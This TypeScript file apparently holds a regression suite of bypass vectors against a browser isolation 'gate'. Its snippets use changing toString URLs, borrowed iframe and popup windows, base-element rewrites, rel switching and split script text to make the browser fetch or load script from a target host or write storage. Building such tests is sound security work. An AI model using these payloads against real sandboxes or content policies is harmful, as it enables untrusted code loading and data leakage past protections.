import { dom, inHead, net, storage } from '../builders.ts';
import { blobOf, frame, worker } from '../snippets.ts';
import type { Target, Vector } from '../../vector.ts';

const iframe = "const f = document.createElement('iframe'); document.body.append(f);";
const div = "const d = document.createElement('div'); document.body.append(d);";
const other = "const other = document.implementation.createHTMLDocument('');";
const scriptIn = (t: Target, doc = 'other'): string =>
  `const s = ${doc}.createElement('script'); s.setAttribute('src', '${t.url('js')}');`;
/** Says the other party's address at every `every`-th reading. */
const turning = (t: Target, every: number, extension = 'js', own = '/own.js'): string =>
  `({ c: 0, toString() { return this.c++ % ${every} ? '${own}' : '${t.url(extension)}' } })`;
const alone = { alone: true } as const;
const connects = { connects: true } as const;
const split = (t: Target, x = 'js'): string => `'https:' + '//' + '${t.host}/hit.${x}'`;
const wait = (code: string): string => `self.fenced = new Promise((done) => { ${code} })`;
const cookie = (t: Target): string => `document.cookie.match('${t.key}')?.[0]`;
const local = (t: Target): string => `localStorage.getItem('${t.key}') ?? undefined`;
const database = (t: Target): string =>
  `indexedDB.databases().then((all) => all.find(({ name }) => name === '${t.key}')?.name)`;

/** What says one thing to the gate and another to the browser. */
const twice: readonly Vector[] = [
  net(
    'fetch, says another address the second time',
    (t) => `fetch(${turning(t, 2)}).catch(() => {})`,
  ),
  net(
    'sendBeacon, says another address the third time',
    (t) => `navigator.sendBeacon(${turning(t, 3)})`,
  ),
  net(
    'EventSource, says another address the second time',
    (t) => `self.kept = new EventSource(${turning(t, 2, 'events')})`,
  ),
  ...[2, 3, 4, 5].map((n) =>
    net(
      `XHR, says another address ${n - 1} times of ${n}`,
      (t) => `const x = new XMLHttpRequest(); x.open('GET', ${turning(t, n)}); x.send()`,
    ),
  ),
  net(
    'fetch, Request with own url',
    (t) =>
      `const r = new Request('${t.url('js')}'); Object.defineProperty(r, 'url', { value: location.href }); fetch(r).catch(() => {})`,
  ),
  net(
    'fetch, subclass of Request with a getter',
    (t) =>
      `fetch(new (class extends Request { get url() { return location.href } })('${t.url('js')}')).catch(() => {})`,
  ),
  net(
    'fetchLater, Request with own url',
    (t) =>
      `const r = new Request('${t.url('js')}'); Object.defineProperty(r, 'url', { value: location.href }); fetchLater(r, { activateAfter: 0 })`,
  ),
  net(
    'cache.add, Request with own url',
    (t) =>
      `self.kept = caches.open('own').then((c) => { const r = new Request('${t.url('js')}'); Object.defineProperty(r, 'url', { value: location.href }); return c.add(r) }).catch(() => {})`,
  ),
  net(
    'fetch, frozen init with a signal',
    (t) =>
      `fetch('${t.url('js')}', Object.freeze({ signal: new AbortController().signal })).catch(() => {})`,
  ),
  net(
    'fetch, Request as init',
    (t) =>
      `fetch('${t.url('js')}', new Request('/own', { method: 'POST', body: 'x' })).catch(() => {})`,
  ),
  net(
    'XHR, opened, aborted, sent',
    (t) => `const x = new XMLHttpRequest(); x.open('GET', '${t.url('js')}'); x.abort(); x.send()`,
  ),
  net(
    'XHR, opened again in a wrong way',
    (t) =>
      `const x = new XMLHttpRequest(); x.open('GET', '${t.url('js')}'); try { x.open('A B', '/own') } catch {} x.send()`,
  ),
  net('XHR, opened by a blank frame, sent by this', (t) =>
    frame(
      `const x = new XMLHttpRequest(); w.XMLHttpRequest.prototype.open.call(x, 'GET', '${t.url('js')}', true); x.send()`,
    ),
  ),
  net('XHR of a blank frame, opened by this', (t) =>
    frame(
      `const x = new w.XMLHttpRequest(); XMLHttpRequest.prototype.open.call(x, 'GET', '${t.url('js')}', true); x.send()`,
    ),
  ),
  net(
    'PaymentRequest, toJSON',
    (t) =>
      `new PaymentRequest([{ supportedMethods: 'https://${t.host}/hit.js', toJSON: () => 1 }], { total: { label: 't', amount: { currency: 'EUR', value: '1' } } }).canMakePayment().catch(() => {})`,
  ),
  net(
    'PaymentRequest, tab',
    (t) =>
      `new PaymentRequest([{ supportedMethods: 'ht\\ttps://${t.host}/hit.js' }], { total: { label: 't', amount: { currency: 'EUR', value: '1' } } }).canMakePayment().catch(() => {})`,
  ),
  net(
    'FedCM, toJSON',
    (t) =>
      `navigator.credentials.get({ identity: { toJSON: () => 1, providers: [{ configURL: 'https://${t.host}/hit.js', clientId: 'c' }] } }).catch(() => {})`,
  ),
  net(
    'WebAuthn, related origin, get',
    (t) =>
      `navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16), rpId: '${t.host}' } }).catch(() => {})`,
  ),
  dom(
    'innerHTML, toString by 2',
    (t) =>
      `${div} d.innerHTML = { c: 0, toString() { return this.c++ % 2 ? 'x' : '<link rel="prefetch" href="${t.url('js')}">' } }`,
  ),
  storage(
    'cookieStore, getter by 2',
    (t) =>
      `let c = 0; self.fenced = Promise.race([cookieStore.set({ get name() { return c++ % 2 ? 'own' : '${t.key}' }, value: '1' }), fetch('/fence')])`,
    cookie,
  ),
  storage(
    'indexedDB, toString by 2',
    (t) =>
      `self.kept = indexedDB.open({ c: 0, toString() { return this.c++ % 2 ? 'own' : '${t.key}' } })`,
    database,
  ),
];

/** Windows that a page comes by in other ways than it is expected to. */
const realms: readonly Vector[] = [
  dom(
    'popup, its fetch',
    (t) => `const w = open(); w?.fetch('${t.url('js')}'); self.kept = w`,
    alone,
  ),
  dom(
    'popup, script in it',
    (t) =>
      `const w = open(); const s = w.document.createElement('script'); s.src = '${t.url('js')}'; w.document.body.append(s); self.kept = w`,
    alone,
  ),
  dom(
    'iframe in a closed shadow root by name, its fetch',
    (t) =>
      `${div} d.attachShadow({ mode: 'closed' }).innerHTML = '<iframe name="${t.key}"></iframe>'; open('', '${t.key}').fetch('${t.url('js')}')`,
  ),
  dom(
    'frame in a closed shadow root, its fetch',
    (t) =>
      `${div} const f = document.createElement('frame'); d.attachShadow({ mode: 'closed' }).append(f); f.contentWindow.fetch('${t.url('js')}')`,
  ),
  dom(
    'blank iframe, load, frames[0]',
    (t) =>
      `const f = document.createElement('iframe'); f.onload = () => self[self.length - 1].fetch('${t.url('js')}'); document.body.append(f)`,
    alone,
  ),
  dom(
    'blank iframe, load listener, frames by name',
    (t) =>
      `const f = document.createElement('iframe'); f.name = '${t.key}'; f.addEventListener('load', () => self['${t.key}'].fetch('${t.url('js')}')); document.body.append(f)`,
    alone,
  ),
  dom(
    'blank iframe beside a custom element',
    (t) =>
      `customElements.define('x-${t.key.replace(/\W/g, '')}', class extends HTMLElement { connectedCallback() { self[self.length - 1].fetch('${t.url('js')}') } }); const g = new DocumentFragment(); g.append(document.createElement('iframe'), document.createElement('x-${t.key.replace(/\W/g, '')}')); document.body.append(g)`,
    alone,
  ),
  dom(
    'blank iframe, kept window after about:blank again',
    (t) =>
      wait(
        `${iframe} const w = f.contentWindow; f.onload = () => { w.fetch('${t.url('js')}'); done() }; f.src = 'about:blank?2'`,
      ),
    alone,
  ),
  dom(
    'blank iframe, kept window after reload',
    (t) =>
      wait(
        `${iframe} const w = f.contentWindow; f.onload = () => { w.fetch('${t.url('js')}'); done() }; w.location.reload()`,
      ),
    alone,
  ),
  dom(
    'blank iframe, kept window after location',
    (t) =>
      wait(
        `${iframe} const w = f.contentWindow; f.onload = () => { w.fetch('${t.url('js')}'); done() }; w.location = 'about:blank?3'`,
      ),
    alone,
  ),
  dom(
    'srcdoc, kept window after blank',
    (t) =>
      wait(
        `const f = document.createElement('iframe'); f.srcdoc = 'x'; document.body.append(f); const w = f.contentWindow; f.onload = () => { f.onload = () => { w.fetch('${t.url('js')}'); done() }; w.location = 'about:blank' }`,
      ),
    alone,
  ),
  dom(
    'srcdoc, then javascript address',
    (t) =>
      wait(
        `const f = document.createElement('iframe'); f.srcdoc = 'x'; f.onload = () => { f.onload = done; f.src = "javascript:'<script>fetch(\\\\'${t.url('js')}\\\\')</scr' + 'ipt>'"; f.removeAttribute('srcdoc') }; document.body.append(f)`,
      ),
    alone,
  ),
  dom(
    'javascript address, its script',
    (t) =>
      `const f = document.createElement('iframe'); f.src = "javascript:'<script src=${t.url('js')}></scr' + 'ipt>'"; document.body.append(f)`,
    alone,
  ),
  dom(
    'blob iframe, its fetch put together',
    (t) =>
      `const f = document.createElement('iframe'); f.src = ${blobOf(`<script>fetch(${split(t)})</script>`, 'text/html').replaceAll('</', '<\\/')}; document.body.append(f)`,
  ),
  dom('blob iframe, second, its fetch from here', (t) =>
    wait(
      `const f = document.createElement('iframe'); f.src = ${blobOf('one', 'text/html')}; f.onload = () => { f.onload = () => { f.contentWindow.fetch('${t.url('js')}'); done() }; f.src = ${blobOf('two', 'text/html')} }; document.body.append(f)`,
    ),
  ),
  dom(
    'data iframe, its fetch put together',
    (t) =>
      `const f = document.createElement('iframe'); f.src = 'data:text/html,' + encodeURIComponent("<script>fetch(${split(t)}, { mode: 'no-cors' })</scr" + "ipt>"); document.body.append(f)`,
  ),
  dom(
    'data object, its fetch put together',
    (t) =>
      `const f = document.createElement('object'); f.data = 'data:text/html,' + encodeURIComponent("<script>fetch(${split(t)}, { mode: 'no-cors' })</scr" + "ipt>"); document.body.append(f)`,
  ),
  dom(
    'sandboxed srcdoc, its fetch',
    (t) =>
      `const f = document.createElement('iframe'); f.sandbox = 'allow-scripts'; f.srcdoc = "<script>fetch('${t.url('js')}', { mode: 'no-cors' })</scr" + "ipt>"; document.body.append(f)`,
  ),
  dom(
    'sandboxed srcdoc, its script',
    (t) =>
      `const f = document.createElement('iframe'); f.sandbox = 'allow-scripts'; f.srcdoc = "<script src='${t.url('js')}'></scr" + "ipt>"; document.body.append(f)`,
  ),
  dom(
    'iframe, surroundContents',
    (t) =>
      `${div} const f = document.createElement('iframe'); d.append(f); const r = new Range(); r.selectNode(f); r.surroundContents(document.createElement('p')); self[self.length - 1].fetch('${t.url('js')}')`,
    alone,
  ),
  net(
    'data worker, module, put together',
    (t) =>
      `self.kept = new Worker('data:text/javascript,' + encodeURIComponent("fetch(${split(t)}, { mode: 'no-cors' })"), { type: 'module' })`,
  ),
  storage(
    'localStorage of a popup',
    (t) => `const w = open(); w.localStorage.setItem('${t.key}', '1')`,
    local,
  ),
  storage(
    'localStorage of a frame after reload',
    (t) =>
      wait(
        `${iframe} const w = f.contentWindow; f.onload = () => { w.localStorage.setItem('${t.key}', '1'); done() }; w.location.reload()`,
      ),
    local,
  ),
];

/** Addresses that mean something else by the time they are used. */
const stale: readonly Vector[] = [
  ...['prefetch', 'modulepreload', 'preload'].flatMap((rel) => [
    dom(
      `link from canonical to ${rel}`,
      (t) =>
        `const l = document.createElement('link'); l.rel = 'canonical'; l.as = 'script'; l.href = '${t.url('js')}'; document.head.append(l); l.rel = '${rel}'`,
    ),
    dom(
      `link from alternate to ${rel} by relList`,
      (t) =>
        `const l = document.createElement('link'); l.rel = 'alternate'; l.as = 'script'; l.href = '${t.url('js')}'; document.head.append(l); l.relList.replace('alternate', '${rel}')`,
    ),
    dom(
      `link from canonical to ${rel} by setAttribute, then append`,
      (t) =>
        `const l = document.createElement('link'); l.setAttribute('rel', 'canonical'); l.as = 'script'; l.href = '${t.url('js')}'; l.setAttribute('rel', '${rel}'); document.head.append(l)`,
    ),
  ]),
  dom(
    'script by surroundContents',
    (t) =>
      `${other} ${scriptIn(t)} ${div} d.append('x'); const r = new Range(); r.selectNodeContents(d); r.surroundContents(s)`,
  ),
  dom(
    'script in a closed shadow root of another document',
    (t) =>
      `${other} const d = other.createElement('div'); const s = other.createElement('script'); d.attachShadow({ mode: 'closed' }).append(s); s.setAttribute('src', '${t.url('js')}'); document.body.append(d)`,
  ),
  dom(
    'script moved out of an inert document, relative',
    (t) =>
      `const s = document.createElement('script'); s.src = 'hit.js'; const b = document.createElement('base'); b.href = 'https://${t.host}/'; document.head.append(b); document.head.append(s)`,
    alone,
  ),
  dom(
    'script in a fragment, then base',
    (t) =>
      `const g = document.createElement('div'); const s = document.createElement('script'); s.src = 'hit.js'; g.append(s); const b = document.createElement('base'); b.href = 'https://${t.host}/'; document.head.append(b); document.head.append(g)`,
    alone,
  ),
  dom(
    'prefetch, then base',
    (t) =>
      `const s = document.createElement('link'); s.rel = 'prefetch'; s.href = 'hit.js'; const b = document.createElement('base'); b.href = 'https://${t.host}/'; document.head.append(b); document.head.append(s)`,
    alone,
  ),
  dom(
    'base, then another base set',
    (t) =>
      `const b = document.createElement('base'); b.href = '/'; document.head.append(b); const s = document.createElement('script'); s.src = 'hit.js'; b.href = 'https://${t.host}/'; document.head.append(s)`,
    alone,
  ),
  dom(
    'import(), relative, after a base',
    (t) =>
      `const b = document.createElement('base'); b.href = 'https://${t.host}/'; document.head.append(b); import('./hit.js').catch(() => {})`,
    alone,
  ),
  dom(
    'base by innerHTML, then an inline module that imports',
    (t) =>
      `const d = document.createElement('div'); document.body.append(d); d.innerHTML = '<base href="https://${t.host}/">'; const s = document.createElement('script'); s.type = 'module'; s.textContent = 'import "./hit.js"'; document.body.append(s)`,
    alone,
  ),
  inHead(
    'base, then an inline module that imports',
    (t) => `<base href="https://${t.host}/"><script type="module">import './hit.js'</script>`,
    alone,
  ),
  dom(
    'link from canonical to preconnect',
    (t) =>
      `const l = document.createElement('link'); l.rel = 'canonical'; l.href = 'https://${t.host}'; document.head.append(l); l.rel = 'preconnect'`,
    connects,
  ),
  dom('attributes of a blank frame, set here', (t) =>
    frame(
      `const s = document.createElement('script'); const list = Object.getOwnPropertyDescriptor(w.Element.prototype, 'attributes').get.call(s); const a = document.createAttribute('src'); a.value = '${t.url('js')}'; list.setNamedItem(a); document.head.append(s)`,
    ),
  ),
  dom('svg script href of a blank frame, baseVal here', (t) =>
    frame(
      `const v = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); const s = document.createElementNS('http://www.w3.org/2000/svg', 'script'); s.setAttribute('href', ''); const h = Object.getOwnPropertyDescriptor(w.SVGScriptElement.prototype, 'href').get.call(s); Object.getOwnPropertyDescriptor(SVGAnimatedString.prototype, 'baseVal').set.call(h, '${t.url('js')}'); v.append(s); document.body.append(v)`,
    ),
  ),
  dom(
    'img named baseURI, fetch',
    (t) =>
      `document.body.insertAdjacentHTML('beforeend', '<img name="baseURI">'); fetch('${t.url('js')}').catch(() => {})`,
    alone,
  ),
  dom(
    'form with input named matches in innerHTML',
    (t) =>
      `${div} d.innerHTML = '<form src="x"><input name="matches"><input name="localName"></form><link rel="prefetch" href="${t.url('js')}">'`,
    alone,
  ),
];

/** Addresses that are spelled in another way, and text that comes in pieces. */
const text: readonly Vector[] = [
  inHead(
    'module, export from',
    (t) => `<script type="module">export * from '${t.url('js')}'</script>`,
  ),
  inHead(
    'speculation rules, escaped key',
    (t) =>
      `<script type="speculationrules">{"prefetch":[{"source":"list","\\u0075rls":["${t.url('html')}"],"eagerness":"immediate"}]}</script>`,
  ),
  inHead(
    'speculation rules, relative to base',
    (t) =>
      `<base href="https://${t.host}/"><script type="speculationrules">{"prefetch":[{"source":"list","urls":["hit.html"],"eagerness":"immediate"}]}</script>`,
    alone,
  ),
  inHead(
    'webbundle',
    (t) =>
      `<script type="webbundle">{"source":"https://${t.host}/hit.wbn","resources":["https://${t.host}/hit.js"]}</script>`,
  ),
  dom(
    'script.text in two nodes',
    (t) =>
      `const s = document.createElement('script'); s.append("import('https:/", "/${t.host}/hit.js')"); document.head.append(s)`,
  ),
  dom(
    'script text appended by appendData',
    (t) =>
      `const s = document.createElement('script'); s.append("import('https://"); s.firstChild.appendData("${t.host}/hit.js')"); document.head.append(s)`,
  ),
];

const stores: readonly Vector[] = [
  storage(
    'file of its own',
    (t) =>
      `self.fenced = Promise.race([navigator.storage.getDirectory().then((d) => d.getFileHandle('${t.key}', { create: true })), new Promise((done) => setTimeout(done, 500))])`,
    (t) =>
      `(async () => { for await (const name of (await navigator.storage.getDirectory()).keys()) if (name === '${t.key}') return 1 })()`,
  ),
  storage(
    'folder of its own',
    (t) =>
      `self.fenced = Promise.race([navigator.storage.getDirectory().then((d) => d.getDirectoryHandle('${t.key}', { create: true })), new Promise((done) => setTimeout(done, 500))])`,
    (t) =>
      `(async () => { for await (const name of (await navigator.storage.getDirectory()).keys()) if (name === '${t.key}') return 1 })()`,
  ),
  storage(
    'file of its own in a worker',
    (t) =>
      worker(
        `navigator.storage.getDirectory().then((d) => d.getFileHandle('${t.key}', { create: true }))`,
      ),
    (t) =>
      `(async () => { for await (const name of (await navigator.storage.getDirectory()).keys()) if (name === '${t.key}') return 1 })()`,
  ),
];

/** Ways round the gate rather than through it, each of which was open once. */
export const roundabout: readonly Vector[] = [...twice, ...realms, ...stale, ...text, ...stores];
